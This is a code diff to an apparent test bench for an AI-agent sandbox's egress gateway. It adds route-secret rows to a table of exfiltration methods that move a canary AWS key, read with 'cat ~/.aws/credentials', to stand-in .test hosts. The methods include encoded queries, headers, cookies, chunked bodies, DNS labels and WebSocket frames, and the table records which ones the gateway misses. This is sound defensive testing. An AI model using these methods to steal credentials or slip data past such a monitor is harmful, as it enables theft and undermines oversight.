@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { gzipSync, deflateSync, brotliCompressSync } from 'node:zlib';
 import type { BottleHarness } from '../test/support/cli-harness.js';
 import {
@@ -15,7 +16,7 @@ import { encodeClientFrame } from './websocket-client-frames.js';
 
 /**
  * Ways of moving the bottle's own canary (the access key in ~/.aws/credentials, read inside the
- * bottle) out to an allowlisted host, each sent from inside a real bottle. `expect` is what the row
+ * bottle), and some of them a credential route's secret, out to an allowlisted host, each sent from inside a real bottle. `expect` is what the row
  * is pinned to: 'blocked' (refused before it arrived, with a recorded decision) or 'passes' with the
  * honest reason it cannot be caught.
  */
@@ -49,6 +50,8 @@ const TRANSFORMS: Record<string, Encode> = {
 
 export interface ExfilRow {
   way: string;
+  /** What is moved: the bottle's canary, or the secret of one of its credential routes (which the gateway holds). */
+  secret: 'canary' | 'route secret';
   expect: 'blocked' | 'passes';
   /** Why it passes, for a 'passes' row; for a blocked row refused before inspection, how. */
   reason?: string;
@@ -78,7 +81,7 @@ function request(
 function rows(): ExfilRow[] {
   const out: ExfilRow[] = [];
   const add = (way: string, build: ExfilRow['build'], passes?: string) =>
-    out.push({ way, expect: passes ? 'passes' : 'blocked', reason: passes, build });
+    out.push({ way, secret: 'canary', expect: passes ? 'passes' : 'blocked', reason: passes, build });
   for (const [name, enc] of Object.entries(ENCODINGS))
     add(`query, ${name}`, (id, s, p, h) => request(id, p, h, { method: 'GET', path: `/q?d=${enc(s)}` }));
   for (const [name, enc] of Object.entries(TRANSFORMS))
@@ -95,6 +98,7 @@ function rows(): ExfilRow[] {
   add('User-Agent, base64', (id, s, p, h) => request(id, p, h, { headers: { 'User-Agent': ENCODINGS.base64(s) } }));
   out.push({
     way: 'userinfo in the absolute URL',
+    secret: 'canary',
     expect: 'blocked',
     refusedWith: '400',
     reason: 'a proxy URL with userinfo is a bad request: refused before its target is read (bad_request)',
@@ -210,7 +214,35 @@ function rows(): ExfilRow[] {
   return out;
 }
 
-export const EXFIL_ROWS = rows();
+/**
+ * The same ways for a secret the agent was never given: a credential route's, as if an upstream had
+ * reflected it to the agent unscrubbed. Toward any host but the route's own, it is a known secret.
+ */
+const ROUTE_SECRET_WAYS = [
+  'query, raw',
+  'query, base64',
+  'path segment, hex',
+  'Authorization: Bearer',
+  'Cookie',
+  'JSON body, percent',
+  'gzip body',
+  'chunked body, secret cut between chunks and writes',
+  'host label, hex, under *.exfil.test',
+  'WebSocket text frame',
+];
+
+function routeSecretRows(canaryRows: readonly ExfilRow[]): ExfilRow[] {
+  return ROUTE_SECRET_WAYS.map((way) => {
+    const row = canaryRows.find((r) => r.way === way);
+    if (!row) throw new Error(`no exfiltration way named ${way}`);
+    return { ...row, way: `route secret: ${way}`, secret: 'route secret' };
+  });
+}
+
+const CANARY_ROWS = rows();
+export const EXFIL_ROWS = [...CANARY_ROWS, ...routeSecretRows(CANARY_ROWS)];
+/** The credential route whose secret the route-secret rows move: a host route to the bench's own server. */
+const ROUTE_HOST = 'route.test';
 
 export const rowHost = (i: number) => `r${i}.${HOST}`;
 
@@ -225,16 +257,20 @@ export async function runExfil(h: BottleHarness, runtime: 'runsc' | 'runc'): Pro
     server = await startBenchServer();
     const port = server.port;
     // Names made from the secret are not pinned: one that got past inspection would fail its lookup (.test).
+    const routeSecret = `rs-${randomBytes(18).toString('base64url')}`;
     const identity = await startBenchBottle(h, {
       allow: [`*.${HOST}:${port}`],
-      hosts: [SPLIT_HOST, ...EXFIL_ROWS.map((_, i) => rowHost(i))],
+      hosts: [SPLIT_HOST, ROUTE_HOST, ...EXFIL_ROWS.map((_, i) => rowHost(i))],
       runtime,
+      route: { host: ROUTE_HOST, upstream: `http://${ROUTE_HOST}:${port}`, secret: routeSecret },
     });
     // The canary is read where an agent would find it.
     const credentials = await inBottle(h, identity, ['cat', '/home/node/.aws/credentials']);
-    const secret = /aws_access_key_id\s*=\s*(\S+)/.exec(credentials)?.[1];
-    if (!secret) throw new Error('no canary in ~/.aws/credentials');
-    const exchanges = EXFIL_ROWS.map((row, i) => row.build(`exfil-${i}`, secret, port, rowHost(i)));
+    const canary = /aws_access_key_id\s*=\s*(\S+)/.exec(credentials)?.[1];
+    if (!canary) throw new Error('no canary in ~/.aws/credentials');
+    const exchanges = EXFIL_ROWS.map((row, i) =>
+      row.build(`exfil-${i}`, row.secret === 'canary' ? canary : routeSecret, port, rowHost(i)),
+    );
     const results = await runExchanges(h, identity, server, exchanges);
     return EXFIL_ROWS.map((row, i) => ({ row, result: results[i] }));
   } finally {
